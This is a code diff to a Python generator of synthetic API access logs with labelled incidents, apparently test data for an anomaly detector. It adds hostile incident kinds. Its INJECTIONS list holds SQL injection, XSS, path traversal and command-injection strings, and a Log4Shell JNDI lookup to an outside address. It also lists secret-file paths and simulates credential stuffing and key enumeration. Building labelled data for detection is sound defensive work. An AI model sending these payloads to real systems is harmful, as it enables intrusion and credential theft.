@@ -10,6 +10,14 @@ clients asking for one or two sensitive paths, and missing records looked up now
 some accounts run a nightly export job that reads hundreds to thousands of records within the
 hour, every day at the same local time.
 
+With the hostile catalogue (the default; ``--no-hostile`` leaves it out), incidents of each
+kind of :data:`HOSTILE_KINDS` are injected too (a secret file answered 200, injection attempts,
+an attack tool's agent, a slow scan, slow credential stuffing, slow brute force, key
+enumeration, one address using several customers' keys), with benign neighbours of them that
+are no incident: search-engine crawlers, health checks and an uptime probe, customers' CI
+running their test suites (deliberate 401s and bad keys), a client looking up mostly missing
+records.
+
 Incidents of each kind are injected in the last ``--eval-days`` days and written to a labels
 file (CSV): ``kind,entity_type,entity,account,start,end,related`` where ``related`` lists, ``|``
 separated, every value that names the incident (the entity, its account, key, user, client
@@ -88,6 +96,58 @@ PROBE_PATHS = [
     "/db.sql", "/dump.sql", "/old/", "/new/", "/tmp/", "/debug", "/jenkins", "/.svn/entries",
 ]  # fmt: skip
 KINDS = ("spike", "drop", "auth_failures", "key_sharing", "probing", "error_surge", "scraping")
+#: The hostile catalogue: attacks a generic rule set or an API's identities reveal.
+HOSTILE_KINDS = (
+    "breach",
+    "injection",
+    "attack_tool",
+    "slow_scan",
+    "credential_stuffing",
+    "slow_brute_force",
+    "key_enumeration",
+    "foreign_keys",
+)
+ALL_KINDS = KINDS + HOSTILE_KINDS
+#: Agents of stray internet clients (background noise, not an incident): ordinary clients.
+NOISE_AGENTS = [
+    "python-requests/2.31.0",
+    "Go-http-client/1.1",
+    "curl/7.68.0",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/99.0 Safari/537.36",
+    "Wget/1.21.2",
+]
+TOOL_AGENTS = [
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
+    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "gobuster/3.6",
+]
+INJECTIONS = [
+    "/v1/items?id=1%27%20OR%20%271%27%3D%271",
+    "/v1/items?id=1%20UNION%20SELECT%20NULL,username,password%20FROM%20users--",
+    "/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    "/v1/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+    "/v1/files?name=..%2f..%2f..%2f..%2fetc%2fpasswd",
+    "/v1/items/1;cat%20/etc/passwd",
+    "/v1/items?id=1%20AND%20SLEEP(5)",
+    "/v1/search?q=${jndi:ldap://203.0.113.66/a}",
+    "/static/../../../../windows/win.ini",
+    "/v1/items?sort=name%27--",
+]
+SECRET_FILES = [
+    "/.env",
+    "/.git/config",
+    "/.aws/credentials",
+    "/backup.sql",
+    "/db.sql",
+    "/.htpasswd",
+]
+CRAWLER_AGENTS = [
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+]
 
 
 @dataclass
@@ -175,11 +235,17 @@ def _hour(index: int) -> datetime:
 
 
 def generate(
-    seed: int, accounts: int = 60, weeks: int = 6, eval_days: int = 14, incidents: int = 6
+    seed: int,
+    accounts: int = 60,
+    weeks: int = 6,
+    eval_days: int = 14,
+    incidents: int = 6,
+    hostile: bool = True,
 ) -> tuple[pl.DataFrame, list[Incident], dict[str, str]]:
     """Events (``ts``, ``remote_addr``, ``remote_user``, ``method``, ``path``, ``status``,
     ``bytes_sent``, ``user_agent``, ``http_x_api_key``), the incidents injected in them
-    (``incidents`` of each kind) and the accounts' keys (key -> account)."""
+    (``incidents`` of each kind; with ``hostile`` also of :data:`HOSTILE_KINDS`, and benign
+    neighbours of them) and the accounts' keys (key -> account)."""
     rng = np.random.default_rng(seed)
     days = weeks * 7
     n_hours = days * 24
@@ -252,6 +318,10 @@ def generate(
         extra.append(_key_sharing_incident(rng, history, pick_hour(), labels))
         extra.append(_probing_incident(rng, people, pick_hour(), labels))
         extra.append(_scraping_incident(rng, history, pick_hour(), labels))
+    if hostile:
+        for i in range(incidents):
+            extra.extend(_hostile_incidents(rng, people, history, i, pick_hour, labels))
+        extra.extend(_benign_neighbours(rng, people, history, days))
     extra.append(_background_noise(rng, people, n_hours))
     extra.extend(_batch_jobs(rng, history, days))
     events = (
@@ -510,7 +580,7 @@ def _background_noise(
         np.array([f"/v1/items/{n}/x" for n in rng.integers(0, 100000, size=size)]),
     )
     statuses = rng.choice([404, 404, 404, 401, 403], size=size)
-    agents = rng.choice(ATTACK_AGENTS, size=size)
+    agents = rng.choice(NOISE_AGENTS, size=size)
     return _frame(ts, ips, "-", "GET", paths, statuses, agents, "-")
 
 
@@ -538,6 +608,168 @@ def _batch_jobs(rng: np.random.Generator, people: list[Account], days: int) -> l
                        account.keys[0])
             )  # fmt: skip
     return jobs
+
+
+def _hostile_incidents(
+    rng: np.random.Generator,
+    people: list[Account],
+    history: list[Account],
+    i: int,
+    pick_hour: object,
+    labels: list[Incident],
+) -> list[pl.DataFrame]:
+    """One incident of each hostile kind (see :data:`HOSTILE_KINDS`)."""
+    pick = pick_hour  # type: ignore[assignment]
+    frames = []
+
+    def label(kind: str, entity_type: str, entity: str, account: str, ts: np.ndarray,
+              related: list[str]) -> None:  # fmt: skip
+        start, end = _span(ts)
+        labels.append(Incident(kind, entity_type, entity, account, start, end, related))
+
+    # breach: one request for a secret file answered 200 (among a few 404s)
+    ip = str(_random_ip(rng, 1)[0])
+    size = int(rng.integers(1, 4))
+    ts = _seconds(rng, pick(), 2.0, size)
+    paths = np.array([str(rng.choice(SECRET_FILES)) for _ in range(size)])
+    statuses = np.full(size, 404)
+    statuses[-1] = 200
+    label("breach", "ip", ip, "", ts, [ip])
+    frames.append(_frame(ts, np.full(size, ip), "-", "GET", paths, statuses, "curl/8.4.0", "-"))
+    # injection: 3 to 30 injection attempts at an account's endpoints
+    account = history[int(rng.integers(0, len(history)))]
+    ip = str(_random_ip(rng, 1)[0])
+    size = int(rng.integers(3, 31))
+    ts = _seconds(rng, pick(), float(rng.uniform(1, 30)), size)
+    paths = rng.choice(INJECTIONS, size=size)
+    statuses = rng.choice([400, 404, 500, 200], size=size)
+    label("injection", "ip", ip, account.name, ts, [ip])
+    agent = str(rng.choice(NOISE_AGENTS))
+    frames.append(
+        _frame(ts, np.full(size, ip), "-", "GET", paths, statuses, agent, account.keys[0])
+    )
+    # attack tool: a handful of ordinary-looking requests from a scanner's agent
+    ip = str(_random_ip(rng, 1)[0])
+    size = int(rng.integers(1, 8))
+    ts = _seconds(rng, pick(), 5.0, size)
+    paths = np.array([f"/v1/items/{n}" for n in rng.integers(1, 20000, size=size)])
+    label("attack_tool", "ip", ip, "", ts, [ip])
+    agent = str(rng.choice(TOOL_AGENTS))
+    frames.append(_frame(ts, np.full(size, ip), "-", "GET", paths, 404, agent, "-"))
+    # slow scan: one sensitive path every 2 to 5 minutes for one to two hours
+    ip = str(_random_ip(rng, 1)[0])
+    size = int(rng.integers(12, 40))
+    step = float(rng.uniform(120, 300))
+    begin = START.timestamp() + pick() * 3600
+    ts = (begin + np.arange(size) * step + rng.uniform(0, 20, size=size)).astype(np.int64)
+    paths = rng.choice(PROBE_PATHS, size=size, replace=False)
+    label("slow_scan", "ip", ip, "", ts, [ip])
+    agent = str(rng.choice(NOISE_AGENTS))
+    frames.append(_frame(ts, np.full(size, ip), "-", "GET", paths, 404, agent, "-"))
+    # slow credential stuffing: 4 to 5 failures a minute for an hour, a new user name each time,
+    # with a customer's valid key; 1% succeed
+    account = people[int(rng.integers(0, len(people)))]
+    ip = str(_random_ip(rng, 1)[0])
+    size = int(rng.integers(240, 300))
+    ts = _seconds(rng, max(pick(), account.first_day * 24 + 1), 60.0, size)
+    users = np.array([f"person{n}@example.org" for n in rng.integers(0, 10**6, size=size)])
+    statuses = np.where(rng.random(size) < 0.01, 200, 401)
+    label("credential_stuffing", "ip", ip, account.name, ts, [ip])
+    agent = str(rng.choice(NOISE_AGENTS))
+    frames.append(_frame(ts, np.full(size, ip), users, "POST", np.full(size, "/v1/login"),
+                         statuses, agent, account.keys[0]))  # fmt: skip
+    # slow brute force: one user's password, 3 to 5 a minute for an hour
+    account = history[int(rng.integers(0, len(history)))]
+    ip = str(_random_ip(rng, 1)[0])
+    size = int(rng.integers(180, 300))
+    ts = _seconds(rng, pick(), 60.0, size)
+    user = f"{account.name}-u0"
+    label("slow_brute_force", "ip", ip, account.name, ts, [ip])
+    frames.append(_frame(ts, np.full(size, ip), user, "POST", np.full(size, "/v1/login"), 401,
+                         str(rng.choice(NOISE_AGENTS)), account.keys[0]))  # fmt: skip
+    # key enumeration: 2 guessed keys a minute for an hour, all refused
+    ip = str(_random_ip(rng, 1)[0])
+    size = int(rng.integers(100, 140))
+    ts = _seconds(rng, pick(), 60.0, size)
+    keys = np.array([f"sk_{k:024x}" for k in rng.integers(0, 1 << 62, size=size)])
+    label("key_enumeration", "ip", ip, "", ts, [ip])
+    frames.append(_frame(ts, np.full(size, ip), "-", "GET", np.full(size, "/v1/items"), 401,
+                         str(rng.choice(NOISE_AGENTS)), keys))  # fmt: skip
+    # foreign keys: one address using the valid keys of 3 to 6 customers within hours
+    owners = rng.choice(history, size=int(rng.integers(3, 7)), replace=False)
+    ip = str(_random_ip(rng, 1)[0])
+    per = int(rng.integers(5, 30))
+    size = per * len(owners)
+    ts = _seconds(rng, pick(), float(rng.uniform(30, 300)), size)
+    keys = np.repeat(np.array([a.keys[0] for a in owners]), per)
+    paths = np.array([f"/v1/items/{n}" for n in rng.integers(1, 20000, size=size)])
+    label("foreign_keys", "ip", ip, "", ts, [ip])
+    frames.append(_frame(ts, np.full(size, ip), "-", "GET", paths, 200, "Go-http-client/1.1", keys))
+    return frames
+
+
+def _benign_neighbours(
+    rng: np.random.Generator, people: list[Account], history: list[Account], days: int
+) -> list[pl.DataFrame]:
+    """Traffic close to the hostile kinds that is not an incident: search-engine crawlers, health
+    checks and uptime probes, a customer's CI running its test suite (deliberate 401s with test
+    users and a few bad keys), a client looking up many missing records."""
+    frames = []
+    begin = START.timestamp()
+    # crawlers: a few thousand public pages a day, 10% dead links
+    for agent, network in zip(CRAWLER_AGENTS, ("66.249.66", "157.55.39"), strict=True):
+        size = days * int(rng.integers(1500, 4000))
+        ts = (begin + rng.uniform(0, days * 86400, size=size)).astype(np.int64)
+        ids = rng.integers(1, 200000, size=size)
+        paths = np.where(
+            rng.random(size) < 0.1,
+            np.array([f"/docs/old-{n}" for n in ids]),
+            np.array([f"/v1/items/{n}" for n in ids]),
+        )
+        statuses = np.where(np.char.startswith(paths.astype(str), "/docs/old-"), 404, 200)
+        ips = _random_ip(rng, size, network)
+        frames.append(_frame(ts, ips, "-", "GET", paths, statuses, agent, "-"))
+    # health checks every 10 s and an uptime probe every minute
+    ts = (begin + np.arange(0, days * 86400, 10)).astype(np.int64)
+    frames.append(_frame(ts, np.full(len(ts), "10.250.0.5"), "-", "GET",
+                         np.full(len(ts), "/health"), 200, "kube-probe/1.29", "-"))  # fmt: skip
+    ts = (begin + np.arange(0, days * 86400, 60)).astype(np.int64)
+    frames.append(_frame(ts, np.full(len(ts), "216.144.250.150"), "-", "GET",
+                         np.full(len(ts), "/server-status"), 200,
+                         "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+                         "-"))  # fmt: skip
+    # a customer's CI: twice a day, a test suite with 3 test users, 40 deliberate 401s and 3
+    # bad keys, 20 missing records
+    for account in rng.choice(history, size=3, replace=False):
+        ip = f"{account.networks[0]}.240"
+        for day in range(days):
+            for run in (9, 15):
+                t0 = begin + day * 86400 + run * 3600
+                size = 300
+                ts = (t0 + np.sort(rng.uniform(0, 600, size=size))).astype(np.int64)
+                kind = rng.integers(0, 10, size=size)
+                paths = np.where(kind < 2, "/v1/login", np.where(
+                    kind < 3, np.array([f"/v1/items/{n}" for n in rng.integers(900000, 999999, size=size)]),
+                    "/v1/items"))  # fmt: skip
+                statuses = np.where(kind < 2, 401, np.where(kind < 3, 404, 200))
+                users = np.array([f"ci-test{n}" for n in rng.integers(0, 3, size=size)])
+                keys = np.where(kind == 9, np.array([f"bad-test-key-{n}" for n in rng.integers(0, 3, size=size)]),
+                                account.keys[0])  # fmt: skip
+                statuses = np.where(kind == 9, 401, statuses)
+                frames.append(_frame(ts, np.full(size, ip), users, "GET", paths, statuses,
+                                     "pytest/8.3 acme-sdk-python/2.5.0", keys))  # fmt: skip
+    # a client looking up records, most of which do not exist
+    account = history[int(rng.integers(0, len(history)))]
+    ip = f"{account.networks[0]}.241"
+    size = days * 500
+    ts = (begin + rng.uniform(0, days * 86400, size=size)).astype(np.int64)
+    endpoint = rng.choice(["/v1/items/{}", "/v1/orders/{}", "/v1/users/{}/orders"], size=size)
+    ids = rng.integers(1, 10**7, size=size)
+    paths = np.array([e.format(n) for e, n in zip(endpoint, ids, strict=True)])
+    statuses = np.where(rng.random(size) < 0.7, 404, 200)
+    frames.append(_frame(ts, np.full(size, ip), f"{account.name}-sync", "GET", paths, statuses,
+                         "sync-service/3.2", account.keys[0]))  # fmt: skip
+    return frames
 
 
 def labels_frame(labels: list[Incident]) -> pl.DataFrame:
@@ -583,12 +815,12 @@ def log_lines(events: pl.DataFrame) -> pl.Series:
 
 def write_traffic(
     out: Path, seed: int, accounts: int = 60, weeks: int = 6, eval_days: int = 14,
-    incidents: int = 6,
+    incidents: int = 6, hostile: bool = True,
 ) -> tuple[Path, Path, int]:  # fmt: skip
     """Write ``access.log``, ``labels.csv`` and ``accounts.csv`` (key,account) under ``out``;
     return the paths of the first two and the number of lines."""
     out.mkdir(parents=True, exist_ok=True)
-    events, labels, keys = generate(seed, accounts, weeks, eval_days, incidents)
+    events, labels, keys = generate(seed, accounts, weeks, eval_days, incidents, hostile)
     pl.DataFrame({"key": list(keys), "account": list(keys.values())}).write_csv(
         out / "accounts.csv"
     )
@@ -610,11 +842,13 @@ def main() -> None:
     parser.add_argument("--weeks", type=int, default=6)
     parser.add_argument("--eval-days", type=int, default=14)
     parser.add_argument("--incidents", type=int, default=6, help="incidents of each kind")
+    parser.add_argument("--no-hostile", action="store_true", help="leave the hostile kinds out")
     parser.add_argument("--out", type=Path, required=True)
     args = parser.parse_args()
     log, labels, lines = write_traffic(
-        args.out, args.seed, args.accounts, args.weeks, args.eval_days, args.incidents
-    )
+        args.out, args.seed, args.accounts, args.weeks, args.eval_days, args.incidents,
+        not args.no_hostile,
+    )  # fmt: skip
     print(f"{lines:,} lines in {log}, labels in {labels}")
     print(f"ingest with: meterlog ingest --log-format '{LOG_FORMAT}' {log}")
 
